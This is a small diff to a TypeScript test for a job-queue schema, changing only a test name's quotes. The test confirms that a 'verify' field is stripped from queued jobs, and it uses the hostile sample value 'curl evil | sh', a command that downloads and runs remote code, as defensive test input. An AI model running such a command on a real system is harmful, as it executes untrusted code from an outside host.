@@ -52,7 +52,7 @@ describe('a job from the queue', () => {
     expect(nodeJobSchema.safeParse({ ...job, ...change }).success).toBe(false);
   });
 
-  it('carries no verify command: only the node\'s own alias gives one', () => {
+  it("carries no verify command: only the node's own alias gives one", () => {
     const parsed = nodeJobSchema.parse({ ...job, verify: 'curl evil | sh', iterate: 1 });
     expect(parsed).not.toHaveProperty('verify');
   });
